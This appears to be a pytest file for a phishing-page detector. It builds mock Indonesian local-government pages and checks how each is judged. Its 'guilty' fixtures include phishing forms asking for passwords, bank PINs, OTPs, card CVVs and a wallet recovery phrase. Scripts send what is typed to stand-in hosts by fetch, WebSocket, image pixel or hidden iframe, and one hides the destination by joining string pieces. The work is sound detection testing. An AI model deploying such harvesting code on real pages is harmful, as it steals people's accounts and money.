"""Forms that ask for what opens an account with somebody else, and those that only name it."""

from __future__ import annotations

import pytest

from tests.checks.content.phishing_pages import judged
from tests.checks.content.reading import linked, site, small

OFFICE = "Dinas Koperasi dan UKM Kabupaten Contoh"
STRANGER = "https://verif-toko.example/sh/log.php"
OBSCURE = "this.action=['https:/','/verif','.exam','ple/l.php'].join('')"


def form(*labels: str, action: str = "", more: str = "", secret: bool = True) -> str:
    """Return a form with a field for each label; the last one for a password."""
    kinds = ["text"] * (len(labels) - 1) + ["password" if secret else "text"]
    fields = "".join(
        f'<label>{label}<input type="{kind}" name="f{n}"></label>'
        for n, (label, kind) in enumerate(zip(labels, kinds, strict=True))
    )
    return f'<form method="post" action="{action}" {more}>{fields}<button>Kirim</button></form>'


def loose(labels: str, script: str, title: str = OFFICE, heading: str = "") -> str:
    """Return a page whose fields stand in no form, and its script."""
    body = f"<h1>{heading or title}</h1><div>{labels}<button id=k>OK</button></div>"
    return small(f"{body}<script>{script}</script>", title=title)


def sent(how: str) -> str:
    return f"k.onclick=function(){{{how}}}"


WS = (
    "var ws=new WebSocket('wss://live.penadah.example/v');"
    "k.onclick=function(){ws.send(JSON.stringify({v:document.getElementById('o').value}))}"
)
PIXEL = sent(
    "var q=[];['n','c'].forEach(function(i){q.push(i+'='+document.getElementById(i).value)});"
    "new Image().src='//stat.balik-pajak.example/p.gif?'+q.join('&')"
)
FETCH = sent(
    "fetch('https://wa-antre.example/kode',{method:'POST',"
    "body:JSON.stringify({k:document.getElementById('o').value})})"
)
FRAME = sent(
    "var i=document.createElement('iframe');i.style.display='none';"
    "i.src='https://gerbang-sms.example/s?k='+escape(document.getElementById('o').value);"
    "document.body.appendChild(i)"
)
OWN = sent("fetch('/api/masuk',{method:'POST',body:document.getElementById('o').value})")
CODE = "<p>{}</p><input id=o>"
CARD = "Nama di kartu<input id=m>Nomor kartu (16 digit)<input id=n>CVV<input id=c maxlength=3>"
CREDIT = "Nomor kartu <input id=n autocomplete=cc-number> CVV <input id=c autocomplete=cc-csc>"

GUILTY = {
    "a marketplace's password, code and PIN, sent to pieces put together": (
        site(form("Email Shopee", "Password Shopee", "Kode OTP", "PIN ShopeePay",
                  more=f'onsubmit="{OBSCURE}"')), "posed"),
    "a marketplace's password, kept here": (
        site(form("Nama toko", "Kata sandi Tokopedia", action="/simpan.php")), "posed"),
    "a bank's application's PIN": (site(form("Nomor HP", "PIN BRImo", action="/p")), "posed"),
    "a wallet whose name is written as two words": (
        site(form("Nomor HP", "PIN GoPay", action="/p")), "posed"),
    "a network whose name is": (site(form("Email", "Sandi TikTok", action="/p")), "posed"),
    "a game's password": (
        site(form("ID (Server)", "Password Moonton", action="k.php")), "posed"),
    "what the fields suggest": (
        site('<form action="/p"><input placeholder="Username"><input type="password" '
             'placeholder="Password Mobile Legends"></form>'), "posed"),
    "a telephone company's code": (
        site(form("Nomor HP", "Kode OTP MyTelkomsel", action="/p", secret=False)), "posed"),
    "the same, for a stranger": (
        site(form("Nomor HP", "Kode OTP MyIM3", action=STRANGER, secret=False)), "lure"),
    "a network's password, for a stranger": (
        site(form("Email", "Password TikTok", action=STRANGER)), "lure"),
    "the messenger's own PIN": (
        loose("<p>PIN verifikasi dua langkah</p><input id=o type=password>", FETCH), "lure"),
    "the messenger's own code": (
        loose(CODE.format("Kami mengirim SMS berisi 6 angka dari WhatsApp. Masukkan:")
              + "<input type=password>", FETCH), "lure"),
    "the same in English": (
        loose(CODE.format("You get an SMS with six digits from WhatsApp. Enter them")
              + "<input type=password>", FETCH, "Contoh Tourism Office"), "lure"),
    "data from every operator, over a socket": (
        loose("<p>Telkomsel, Indosat, XL, Tri</p><input id=h>"
               "<p>Kode OTP</p><input id=o>", WS, "Kuota 50GB Gratis"), "lure"),
    "credit from all operators": (
        loose("<p>Berlaku semua operator</p><input id=h><p>Kode OTP</p><input id=o>",
              FETCH, "Pulsa 100 ribu gratis HUT Kabupaten"), "lure"),
    "an operator's code that stands before a field in a later step": (
        loose("<p>Nomor HP</p><input id=h><div style='display:none'><p>Masukkan kode OTP "
              "MyTelkomsel 4-6 digit. JANGAN beritahu orang lain.</p><input name=otp id=o></div>",
              WS, "Hadiah HUT"), "lure"),
    "data for nothing, and a PIN": (
        site(form("Kuota gratis: nomor HP", "PIN", action=STRANGER, secret=False)), "lure"),
    "aid that is paid out, and a code": (
        site(form("Pencairan bantuan: nomor HP", "Kode OTP", action=STRANGER, secret=False)),
        "lure"),
    "a vote by a linked device": (
        loose("<p>Buka WhatsApp, Perangkat Tertaut, Tautkan dengan nomor telepon. Nomor HP</p>"
              "<input id=o name=hp><p>Kode verifikasi</p><input name=kode>", FETCH,
              "Pilih Duta Baca"), "lure"),
    "a card's code for tax that comes back, by a picture": (
        loose(CARD, PIXEL, "Pengembalian Kelebihan Pajak", "Anda berhak atas pengembalian"),
        "posed"),
    "a card, by a picture, for nothing": (loose(CARD, PIXEL, "Formulir"), "skimmed"),
    "a refund of tax in English": (
        loose(CREDIT, OWN, "Tax refund", "You are entitled to a refund"), "posed"),
    "a code that an unseen frame carries away": (
        loose("<p>Kode SMS</p><input id=o name=kode>", FRAME), "chat"),
    "a wallet's words, by an inline script": (
        loose("<p>Buku tamu</p><div id=t></div>",
              "t.innerHTML='<h3>Restore your wallet</h3><p>Type your 12-word Secret Recovery "
              "Phrase.</p><form id=rw><input name=a></form>';" + FETCH.replace("'o'", "'a'")),
        "lure"),
    "a bank's PIN, kept here": (
        site(form("Nomor kartu ATM", "PIN ATM", action="proses.php")), "posed"),
    "a wallet's PIN": (site(form("NIK", "Nomor HP", "PIN DANA", action="cek.php")), "posed"),
    "a bank's password by an office": (
        site(form("Nomor KPJ", "User", "Password internet banking", action="kirim.php")), "posed"),
    "a shop's password, for a name that the page bears": (
        small("<h1>Voucher Belanja</h1>" + form("Email", "Sandi Tokopedia",
              action="https://voucher.example/x"), title="Voucher"), "lure"),
    "another messenger's code": (
        loose("<p>Kode login Telegram</p><input name=code id=o>"
              "<p>Kata sandi dua langkah</p><input type=password>", FETCH), "lure"),
    "a card's code and its PIN": (
        site(form("Nomor kartu", "CVV", "Masa berlaku", "PIN", action="/p")), "posed"),
    "both, for a stranger": (
        site(form("Kode keamanan kartu", "PIN kartu", action=STRANGER)), "lure"),
    "a full mailbox, kept here": (
        small("<h1>Webmail</h1><p>Kuota penuh, akun dinonaktifkan dalam 24 jam.</p>"
              + form("Surel", "Kata sandi", action="/webmail/next.php"), title="Webmail"),
        "posed"),
}  # fmt: skip


@pytest.mark.parametrize(("source", "kind"), GUILTY.values(), ids=GUILTY.keys())
def test_takes_what_is_somebody_else_s(source: str, kind: str) -> None:
    assert judged(source).message == kind


HONEST = {
    "offices that hand over their accounts in networks": site(
        form("Nama OPD", "Username Instagram", "Password Instagram", action="/p")),
    "the back of a member's card": site(
        form("4 digit belakang kartu anggota", "PIN anggota", action="/opac")),
    "the back of an insurance card": site(
        form("4 digit di belakang kartu BPJS", "PIN antrean", action="/antre")),
    "a PIN for the village's money": loose("", "", title="Aplikasi Dana Desa")
    + form("PIN Dana", "Desa", action="/apbdes"),
    "a password of the office's own": site(form("Nama pengguna", "Kata sandi", action="/p")),
    "an e-mail address at Google": site(form("Email (Gmail)", "Kata sandi", action="/p")),
    "a code of its own that comes by WhatsApp": site(
        form("Nomor WhatsApp", "Kode OTP WhatsApp", action="/p", secret=False)),
    "the same, checked by a rented server": loose(
        CODE.format("Kami mengirim kode 6 angka lewat WhatsApp") + "<input type=password>", FETCH),
    "the office's code, told carelessly": loose(
        CODE.format("Masukkan 6 digit dari WhatsApp") + "<input type=password>", FETCH),
    "a code that comes by both": loose(
        CODE.format("Kode 6 angka dikirim lewat SMS dan WhatsApp") + "<input type=password>",
        FETCH),
    "an applicant's PIN that a bank sells": site(
        form("Nomor pendaftaran", "PIN (struk Bank Mandiri)", action="/p")),
    "an applicant by herself": site(form("NISN", "PIN mandiri online", action="/p")),
    "a code that some operator brings": site(
        form("Nomor HP", "Kode OTP (Telkomsel *123#)", action="/p", secret=False)),
    "what is saved at the rubbish bank": site(
        form("Nomor rekening", "Saldo terakhir", "PIN", action="/p")),
    "a webmail of few words": small(
        "<h1>Webmail</h1><p>Kuota 2 GB. Akun tak terpakai dihapus.</p>"
        + form("Surel", "Kata sandi", action="submit.php"), title="Webmail"),
    "a shop's name at a marketplace": site(
        form("Nama toko di Shopee", "Tautan Tokopedia", action="/p", secret=False)),
    "a bank of the regency": small(
        "<h1>BPR Contoh</h1>" + form("User", "Password internet banking", action="/masuk"),
        title="BPR Contoh"),
    "money of the village": site(form("Desa", "PIN Dana Desa", action="/p")),
    "a PIN beside the bank where fees are paid": site(
        form("Nomor peserta", "PIN dari teller", "Bank ATM", action="/p", secret=False)),
    "two steps of the office's own": loose(
        "<p>Kode verifikasi dua langkah</p><input name=otp id=o>" + "<input type=password>",
        FETCH),
    "a nature reserve's PIN": site(form("Kode booking", "PIN BTN", action="/p")),
    "a rubbish bank's password": site(form("No. nasabah", "Password BSI", action="/p")),
    "a door's PIN": site(form("Ruang", "PIN pintu", action="/p")),
    "how to pay, before the fee book's PIN": loose(
        "<p>Bayar lewat BRImo: masukkan PIN BRImo lalu tekan OK.</p><p>PIN buku</p>"
        "<input type=password id=o>", OWN),
    "a warning beside a login": site(
        "<p>Jangan pernah mengisi PIN BRImo pada laman ini.</p>"
        + form("NIP", "Kata sandi", action="/p")),
    "a lesson on false pages": small(
        "<h1>Simulasi phishing untuk ASN</h1>" + form("User", "Password Shopee", action="/p"),
        title="Literasi digital"),
    "free WLAN by a firm's box": loose(
        "<p>WiFi gratis, kuota 1 GB per hari</p><input id=h><p>Kode OTP</p><input id=o>", FETCH),
    "free places for fifty, with a code": loose(
        "<p>Khitanan gratis, kuota 50 anak</p><input id=h><p>Kode OTP</p><input id=o>", FETCH),
    "free data by a firm's box": loose(
        "<p>Masukkan nomor HP</p><input id=h><p>Kode OTP</p><input id=o>", FETCH,
        "Kuota gratis 2 GB bagi pelajar", "Kuota gratis 2 GB bagi pelajar"),
    "free data by a firm's form": site(
        "<h2>Kuota gratis bagi pelajar</h2>"
        + form("Kuota gratis: nomor HP", "Kode OTP", action=STRANGER, secret=False)),
    "a draw for those who paid their tax, by a firm": site(
        form("Undian berhadiah taat pajak: nomor HP", "Kode OTP", action=STRANGER, secret=False)),
    "how to link a device, with a search": loose(
        "<p>Buka WhatsApp, pilih Perangkat Tertaut.</p><input id=o name=cari>", OWN),
    "devices of the office's own account, by a firm's box": loose(
        "<p>Perangkat tertaut dapat dilihat di menu akun. Nomor HP</p><input id=o name=hp>"
        "<p>Kode OTP</p><input name=kode>", FETCH),
    "a warning of linked devices": loose(
        "<p>Jangan tautkan perangkat lain. Nomor HP</p><input id=o name=hp><p>Kode OTP</p>"
        "<input name=kode>", FETCH),
    "which operator, for the office's own code": loose(
        "<p>Operator: Telkomsel, Indosat, XL</p><input id=h><p>Kode OTP</p><input id=o>", OWN),
    "a card in a shop that tells of refunds": loose(
        CREDIT + "<p>Dana dikembalikan ke kartu bila pesanan batal; refund 14 hari.</p>", OWN,
        "Toko Perumda Aneka Usaha"),
    "a card for a gateway": loose(
        CREDIT, sent("fetch('https://api.midtrans.com/v2/token?card_number='+n.value)")),
    "tax that comes back into an account": site(
        "<h2>Pengembalian kelebihan pajak</h2>"
        + form("NPWPD", "Nama pemilik", "Nomor rekening", action="/p", secret=False)),
    "a frame that shows what a number is about": loose(
        "<p>Nomor resi</p><input id=o name=resi>", FRAME),
    "a frame of a map": loose(
        "<p>Kode SMS</p><input id=o name=kode>",
        FRAME.replace("https://gerbang-sms.example/s?k=", "https://www.google.com/maps?q=")),
    "a card with an address in India": site(
        form("Card number", "CVV", "PIN code", action="/p", secret=False)),
    "a card and a one-time code at the office": site(
        form("Nomor kartu", "CVV", "Kode OTP", action="/p", secret=False)),
    "a balance in a survey of households": site(
        form("Nama", "Saldo rekening", "Jumlah tanggungan", action="/p", secret=False)),
    "webmail that tells of its quota": small(
        "<h1>Webmail</h1><p>Kuota 1 GB. Akun yang penuh ditutup.</p>"
        + form("Surel", "Kata sandi", action="/?_task=login"), title="Webmail"),
    "a lesson on wallets": loose(
        "<div id=t></div>",
        "t.innerHTML='<p>Waspada: jangan ketik 12-word Secret Recovery Phrase di mana pun.</p>';"
        + FETCH, "Literasi keuangan"),
}  # fmt: skip


@pytest.mark.parametrize("source", HONEST.values(), ids=HONEST.keys())
def test_only_names_somebody_else(source: str) -> None:
    assert judged(source).message in {"clean", "front", "outside"}


LOGIN = '<form action="{to}"><input name="ag"><input type="password" name="s8"></form>'


@pytest.mark.parametrize(
    ("path", "language", "kind"),
    [
        ("gallery/thumbs/bb/acesso/", "pt-BR", "posed"),
        ("images/stories/x/index.html", "fr", "posed"),
        ("wp-content/uploads/2024/a/", "es", "posed"),
        (".well-known/b/", "de", "posed"),
        ("css/k/login.html", "tr", "posed"),
        ("images/stories/x/index.html", "id", "clean"),
        ("wp-content/uploads/2024/a/", "en-US", "clean"),
        ("images/x/", "", "clean"),
        ("assets/demo/login.html", "zh-CN", "clean"),
        ("doc/page/login.asp", "zh", "clean"),
        ("pt/acesso/", "pt", "clean"),
    ],
)
def test_a_login_for_readers_of_another_language(path: str, language: str, kind: str) -> None:
    source = f'<html lang="{language}"><title>Acesso</title>{LOGIN.format(to="gravar.php")}</html>'
    assert judged(site(), linked((path, source))).message == kind


@pytest.mark.parametrize(
    ("form", "kind"),
    [
        (LOGIN.format(to="gravar.php"), "posed"),
        # A program of its own: it answers itself, signs in by its name, knows its forms.
        (LOGIN.format(to=""), "clean"),
        (LOGIN.format(to="index.php?do=1"), "clean"),
        (LOGIN.format(to="auth/login.php"), "clean"),
        (LOGIN.format(to="gravar.php").replace(
            "<input name", f'<input type=hidden name=csrf_token value="{"a1" * 20}"><input name', 1,
        ), "clean"),
        # A template from abroad, for people here.
        ("<h1>Aplikasi absensi</h1>" + LOGIN.format(to="cek.php"), "clean"),
        ("<label>Nama pengguna</label>" + LOGIN.format(to="cek.php"), "clean"),
    ],
)  # fmt: skip
def test_a_program_from_abroad(form: str, kind: str) -> None:
    page = f'<html lang="de"><title>Anmeldung</title>{form}</html>'
    assert judged(site(), linked(("uploads/kit/masuk.php", page))).message == kind
